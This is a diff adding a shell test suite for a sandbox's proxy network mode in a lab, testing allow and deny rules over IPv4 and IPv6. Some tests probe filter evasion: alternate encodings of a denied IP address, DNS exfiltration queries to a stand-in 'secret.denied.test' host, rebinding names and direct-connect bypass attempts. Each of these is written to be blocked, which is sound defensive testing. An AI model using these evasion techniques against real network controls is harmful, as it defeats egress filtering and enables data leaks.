@@ -1,0 +1,165 @@
+# Proxy mode in the dual-stack lab: names, both families, IP spellings,
+# DNS filtering and exfiltration, rebinding, credentials, logs.
+
+test_dual_allowed_name_over_http_prefers_ipv6() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    curl_in http://dual.test/
+    expect_eq "$(last_line)" 200
+    expect_contains "$OUT" "hello from [2001:db8:1::10]:80"
+}
+
+test_dual_allowed_name_over_https_connect() {
+    cp "$LAB_CA" ca.pem; chmod 644 ca.pem
+    SB_OPTS=(--network proxy --allow-net dual.test:443)
+    curl_in --cacert "$WORK/ca.pem" https://dual.test/
+    expect_eq "$(last_line)" 200
+    expect_contains "$OUT" "hello from"
+}
+
+test_dual_socks5_with_remote_resolution() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    sb "${SB_OPTS[@]}" -c 'curl -sS --max-time 10 -x "$ALL_PROXY" http://dual.test:8080/'
+    expect_eq "$RC" 0
+    expect_contains "$OUT" "hello from [2001:db8:1::10]:8080"
+}
+
+test_dual_ipv4_and_ipv6_literals_when_allowed() {
+    SB_OPTS=(--network proxy --allow-net "$LAB_W4" --allow-net "[$LAB_W6]")
+    curl_in "http://$LAB_W4/"
+    expect_contains "$OUT" "hello from $LAB_W4:80"
+    curl_in "http://[$LAB_W6]/"
+    expect_contains "$OUT" "hello from [$LAB_W6]:80"
+}
+
+test_dual_v4only_and_v6only_names() {
+    SB_OPTS=(--network proxy --allow-net v4only.test --allow-net v6only.test)
+    curl_in http://v4only.test/
+    expect_contains "$OUT" "hello from $LAB_V4ONLY:80"
+    curl_in http://v6only.test/
+    expect_contains "$OUT" "hello from [$LAB_V6ONLY]:80"
+}
+
+test_dual_denied_name_gets_403_with_reason_and_is_logged() {
+    SB_OPTS=(--network proxy --allow-net dual.test --log "$WORK/violations.log")
+    curl_in http://denied.test/
+    expect_eq "$(last_line)" 403
+    expect_contains "$OUT" "blocked by moat policy: denied.test:80"
+    grep -q '"kind":"connect","destination":"denied.test:80"' violations.log ||
+        fail "no log line: $(cat violations.log)"
+}
+
+test_dual_socks5_denied_target_gets_code_2() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    sb "${SB_OPTS[@]}" -c 'curl -sS --max-time 10 -x "$ALL_PROXY" http://denied.test/'
+    expect_eq "$RC" 97 "curl's SOCKS failure"
+    expect_contains "$ERR" "(2)" "SOCKS5 reply 2: not allowed by ruleset"
+}
+
+test_dual_wildcard_matches_subdomains_only() {
+    SB_OPTS=(--network proxy --allow-net '*.wild.test')
+    curl_in http://a.wild.test/
+    expect_eq "$(last_line)" 200
+    curl_in http://b.wild.test/
+    expect_eq "$(last_line)" 200
+    curl_in http://wild.test/
+    expect_eq "$(last_line)" 403
+}
+
+test_dual_cdn_name_with_rotating_addresses() {
+    SB_OPTS=(--network proxy --allow-net cdn.test)
+    curl_in http://cdn.test/
+    expect_eq "$(last_line)" 200
+    lab_cdn_rotate B >/dev/null
+    curl_in http://cdn.test/
+    expect_eq "$(last_line)" 200
+    expect_contains "$OUT" "2001:db8:3::2"
+}
+
+test_dual_every_ipv6_spelling_of_a_denied_ipv4_is_denied() {
+    SB_OPTS=(--network proxy --allow-net 203.0.113.0/24 --deny-net "$LAB_DENIED4")
+    for target in "$LAB_DENIED4" "[::ffff:$LAB_DENIED4]" "[::ffff:cb00:7109]" "[::$LAB_DENIED4]" \
+                  "[64:ff9b::$LAB_DENIED4]" "[2002:cb00:7109::]" 0xcb007109 3405803785 0313.0.0161.011; do
+        sb "${SB_OPTS[@]}" -- curl -sS --noproxy '' --max-time 10 -o /dev/null -w '%{http_code}' \
+            -p "http://$target:80/"
+        case "$OUT" in 403*|000*) ;; *) fail "$target: $OUT" ;; esac
+        expect_contains "$ERR$OUT" "403" "$target"
+    done
+    # The control: another address in the allowed /24, mapped spelling too.
+    curl_in "http://[::ffff:203.0.113.20]/"
+    expect_eq "$(last_line)" 200
+}
+
+test_dual_mapped_spelling_of_an_allowed_ipv4_is_allowed() {
+    SB_OPTS=(--network proxy --allow-net "$LAB_W4")
+    sb "${SB_OPTS[@]}" -- curl -sS --noproxy '' --max-time 10 -p "http://[::ffff:$LAB_W4]/"
+    expect_contains "$OUT" "hello from $LAB_W4:80"
+}
+
+test_dual_dns_answers_allowed_names_in_both_families() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    sb "${SB_OPTS[@]}" -c 'dig +short +time=3 dual.test A; dig +short +time=3 dual.test AAAA'
+    expect_contains "$OUT" "$LAB_W4"
+    expect_contains "$OUT" "$LAB_W6"
+}
+
+test_dual_dns_exfiltration_never_leaves_the_machine() {
+    lab_dns_reset
+    SB_OPTS=(--network proxy --allow-net dual.test --log "$WORK/violations.log")
+    sb "${SB_OPTS[@]}" -c 'dig +time=3 +tries=1 secret.denied.test A; dig +tcp +time=3 +tries=1 other.secret.denied.test TXT'
+    expect_contains "$OUT" "status: NXDOMAIN"
+    if lab_dns_saw secret.denied.test; then fail "the query reached the lab's DNS server"; fi
+    grep -q '"kind":"dns"' violations.log || fail "no dns log line"
+}
+
+test_dual_rebinding_names_are_refused() {
+    SB_OPTS=(--network proxy --allow-net rebind-lo.test --allow-net rebind-meta.test)
+    curl_in http://rebind-lo.test/
+    expect_eq "$(last_line)" 403
+    curl_in http://rebind-meta.test/
+    expect_eq "$(last_line)" 403
+    sb "${SB_OPTS[@]}" -- dig +time=3 rebind-lo.test A
+    expect_contains "$OUT" "status: REFUSED"
+}
+
+test_dual_proxy_without_credential_is_refused() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    sb "${SB_OPTS[@]}" -- curl -sS --noproxy '' --max-time 10 -o /dev/null -w '%{http_code}' \
+        -x http://127.0.0.1:3128 http://dual.test/
+    expect_eq "$OUT" 407
+    # From outside the sandbox, the proxy does not exist at all.
+    if ip netns exec "$LAB_HOST" curl -sS --max-time 3 -x http://127.0.0.1:3128 http://dual.test/ 2>/dev/null; then
+        fail "the proxy answered from outside the sandbox"
+    fi
+}
+
+test_dual_program_ignoring_the_proxy_cannot_connect() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    sb "${SB_OPTS[@]}" -- "$ATTACK" fetch "$LAB_W4" 80
+    case "$OUT" in ENETUNREACH|EHOSTUNREACH) ;; *) fail "direct connect: $OUT" ;; esac
+    sb "${SB_OPTS[@]}" -- "$ATTACK" fetch "$LAB_W6" 80
+    case "$OUT" in ENETUNREACH|EHOSTUNREACH) ;; *) fail "direct connect v6: $OUT" ;; esac
+}
+
+test_dual_git_ssh_proxy_command_reaches_port_22() {
+    # GIT_SSH_COMMAND's ProxyCommand is `moat connect %h %p`: a CONNECT
+    # tunnel through the sandbox's proxy; the lab's port 22 echoes.
+    SB_OPTS=(--network proxy --allow-net dual.test:22)
+    sb "${SB_OPTS[@]}" -c 'case "$GIT_SSH_COMMAND" in *"connect %h %p"*) ;; *) exit 3 ;; esac
+        helper=${GIT_SSH_COMMAND#*ProxyCommand=?}; helper=${helper%% connect*}
+        echo ping-over-ssh-path | timeout 5 "$helper" connect dual.test 22'
+    expect_eq "$RC" 0
+    expect_contains "$OUT" ping-over-ssh-path
+    sb "${SB_OPTS[@]}" -c 'echo x | timeout 5 "${GIT_SSH_COMMAND#*ProxyCommand=?}" 2>&1; helper=${GIT_SSH_COMMAND#*ProxyCommand=?}; helper=${helper%% connect*}; echo x | timeout 5 "$helper" connect denied.test 22'
+    expect_contains "$ERR" "403"
+}
+
+test_dual_toolchain_clients_use_the_proxy_variables() {
+    SB_OPTS=(--network proxy --allow-net dual.test)
+    sb "${SB_OPTS[@]}" -- wget -q -O - http://dual.test/
+    expect_contains "$OUT" "hello from" "wget"
+    sb "${SB_OPTS[@]}" -- /usr/bin/python3 -c 'import urllib.request; print(urllib.request.urlopen("http://dual.test/", timeout=10).read().decode())'
+    expect_contains "$OUT" "hello from" "python urllib"
+    sb "${SB_OPTS[@]}" -- git -c http.proxyAuthMethod=basic ls-remote http://dual.test/nothing.git
+    expect_contains "$ERR" "dual.test" "git reached the server through the proxy"
+    expect_not_contains "$ERR" "Could not resolve" "git"
+}
